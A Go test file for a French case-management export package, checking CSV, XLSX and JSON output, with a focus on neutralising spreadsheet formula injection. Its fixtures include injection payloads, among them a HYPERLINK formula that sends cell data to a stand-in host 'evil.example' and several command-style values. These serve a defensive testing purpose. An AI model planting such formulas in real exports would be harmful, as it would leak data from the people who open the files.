package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"greffier/cases"
)

// TestPlain: what spreadsheets take for a formula, at the beginning of a cell.
func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "La Mêlée": "La Mêlée", "Coll'in": "Coll'in", "a=1": "a=1", "12-3": "12-3", "contact@x.example": "contact@x.example",
		`=HYPERLINK("http://evil.example";"x")`: `'=HYPERLINK("http://evil.example";"x")`, "=1+1": "'=1+1", "+33 1 23": "'+33 1 23", "-1+1|cmd": "'-1+1|cmd", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "\tx": "'\tx", "  =1": "'  =1", "\u00a0=1": "'\u00a0=1",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM",
	} {
		if got := Plain(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func paris(t testing.TB) *time.Location {
	t.Helper()
	zone, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	return zone
}

var plainWords = Words{
	Timeliness: func(t *cases.Timeliness) string {
		if t == nil {
			return "aucun dépôt"
		}
		return string(*t)
	},
	Completeness: func(c cases.Completeness) string { return string(c) }, Status: func(s cases.Status) string { return string(s) },
	Task: func(kind string) string { return kind }, Danger: func(code string) string { return code }, Date: func(at time.Time) string { return at.Format("2006-01-02 15:04") },
}

func listOf(t testing.TB) List {
	return List{Words: plainWords, Location: paris(t), Calls: cases.Calls{{ID: "hubs-2018", Name: "Appel Hubs", Pieces: []cases.Piece{{ID: "rib", Label: "RIB"}, {ID: "budget", Label: "=Budget"}}}}}
}

// evil is a case in which all that a candidate writes is a formula.
func evil() cases.Summary {
	at := time.Date(2018, 11, 26, 9, 4, 12, 0, time.UTC)
	formula := `=HYPERLINK("http://evil.example/?"&A1;"x")`
	fact := func(name cases.FactName, value string) cases.Fact { return cases.Fact{Name: name, Value: value} }
	return cases.Summary{Ref: "HUB18-0001", Call: "hubs-2018", Phase: cases.Depositing, Completeness: cases.Incomplete,
		Candidate: cases.Candidate{Name: "@nom", Address: "+a@x.example", Organisation: formula}, OpenedAt: &at, DepositedAt: &at,
		Facts:  []cases.Fact{fact(cases.FactSIRET, "41816609600051"), fact(cases.FactAmount, "450000.00"), fact(cases.FactCost, "-1+cmd"), fact(cases.FactTerritory, "01"), fact(cases.FactTerritory, "2A"), fact(cases.FactLegalForm, "\t=1")},
		Pieces: []cases.PieceSheet{{ID: "rib", Label: "RIB", Required: true, Status: cases.Present}, {ID: "budget", Required: true, Status: cases.Missing}},
		Tasks:  []cases.Task{{Kind: "message"}, {Kind: "done", DoneAt: &at}}, Labels: []string{"=1", "b"}, Assigned: "Camille"}
}

func each(list ...cases.Summary) Each {
	return func(f func(cases.Summary) error) error {
		for _, c := range list {
			if err := f(c); err != nil {
				return err
			}
		}
		return nil
	}
}

// TestCSV: UTF-8 with its mark, semicolons, CRLF, French numbers and dates in the
// time of Paris; nothing is a formula.
func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if err := listOf(t).CSV(&b, each(evil())); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(b.String(), "\ufeff")
	if !marked || strings.Count(text, "\r\n") != 2 {
		t.Errorf("%q", b.String())
	}
	r := csv.NewReader(strings.NewReader(text))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatal(err, len(rows))
	}
	value := func(head string) string { return rows[1][slices.Index(rows[0], head)] }
	for head, want := range map[string]string{
		"Référence": "HUB18-0001", "Appel": "Appel Hubs", "Phase": "Dépôt en cours", "Délai": "aucun dépôt", "Complétude": "incomplete", "Pièces requises présentes": "1", "Pièces requises": "2",
		"Organisation": `'=HYPERLINK("http://evil.example/?"&A1;"x")`, "Contact": "'@nom", "Adresse électronique": "'+a@x.example", "SIRET": "41816609600051", "Territoires": "Ain (01), Corse-du-Sud (2A)",
		"Montant demandé (€)": "450000,00", "Coût du projet (€)": "'-1+cmd", "Forme juridique": "'\t=1", "Ouvert le": "26/11/2018 10:04:12", "Pièce\u00a0: RIB": "present", "Tâches ouvertes": "message", "Étiquettes": "'=1, b",
	} {
		if got := value(head); got != want {
			t.Errorf("%s: %q, want %q", head, got, want)
		}
	}
}

// TestXLSX: amounts are numbers, instants are dates as clocks in Paris showed them,
// text stays text, whatever it begins with and even when it is edited.
func TestXLSX(t *testing.T) {
	var b bytes.Buffer
	if err := listOf(t).XLSX(&b, each(evil())); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := book.Close(); err != nil {
			t.Error(err)
		}
	}()
	rows, err := book.GetRows("Dossiers")
	if err != nil || len(rows) != 2 {
		t.Fatal(err, len(rows))
	}
	for i, head := range rows[0] {
		cell, err := excelize.CoordinatesToCellName(i+1, 2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := book.GetCellFormula("Dossiers", cell)
		if err != nil || formula != "" {
			t.Errorf("%s is a formula: %q, %v", head, formula, err)
		}
		kind, err := book.GetCellType("Dossiers", cell)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := book.GetCellValue("Dossiers", cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		switch head {
		case "Organisation":
			if raw != evil().Candidate.Organisation || kind != excelize.CellTypeInlineString {
				t.Errorf("%s: %q of type %v", head, raw, kind)
			}
			id, err := book.GetCellStyle("Dossiers", cell)
			if err != nil {
				t.Fatal(err)
			}
			if style, err := book.GetStyle(id); err != nil || style.NumFmt != formatText {
				t.Errorf("an edited cell is computed: %+v, %v", style, err)
			}
		case "Montant demandé (€)":
			if raw != "450000" || kind == excelize.CellTypeInlineString || rows[1][i] != "450,000.00" {
				t.Errorf("%s: %q %q of type %v", head, raw, rows[1][i], kind)
			}
		case "Ouvert le":
			if rows[1][i] != "26/11/2018 10:04:12" || kind == excelize.CellTypeInlineString {
				t.Errorf("%s: %q of type %v", head, rows[1][i], kind)
			}
		case "Pièces requises présentes":
			if raw != "1" || kind == excelize.CellTypeInlineString {
				t.Errorf("%s: %q of type %v", head, raw, kind)
			}
		}
	}
}

func TestJSON(t *testing.T) {
	for n, list := range [][]cases.Summary{{}, {evil()}, {evil(), evil()}} {
		var b bytes.Buffer
		if err := JSON(&b, each(list...)); err != nil {
			t.Fatal(err)
		}
		var got []cases.Summary
		if err := json.Unmarshal(b.Bytes(), &got); err != nil || len(got) != n || n > 0 && got[0].Candidate != evil().Candidate {
			t.Errorf("%d cases: %s, %v", n, b.String(), err)
		}
	}
}

// TestLists: ten thousand cases take little memory, and an error ends a list.
func TestLists(t *testing.T) {
	l := listOf(t)
	many := func(f func(cases.Summary) error) error {
		for range 10_000 {
			if err := f(evil()); err != nil {
				return err
			}
		}
		return nil
	}
	broken := func(func(cases.Summary) error) error { return fmt.Errorf("broken") }
	for name, write := range map[string]func(*counter, Each) error{
		"CSV": func(w *counter, e Each) error { return l.CSV(w, e) }, "XLSX": func(w *counter, e Each) error { return l.XLSX(w, e) }, "JSON": func(w *counter, e Each) error { return JSON(w, e) },
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		w := new(counter)
		if err := write(w, many); err != nil || w.n < 100_000 {
			t.Errorf("%s: %d bytes, %v", name, w.n, err)
		}
		runtime.ReadMemStats(&after)
		if grown := int64(after.Sys) - int64(before.Sys); grown > 96<<20 {
			t.Errorf("%s: %d MB more", name, grown>>20)
		}
		if err := write(new(counter), broken); err == nil {
			t.Errorf("%s: an error is lost", name)
		}
	}
}

type counter struct{ n int }

func (c *counter) Write(p []byte) (int, error) { c.n += len(p); return len(p), nil }
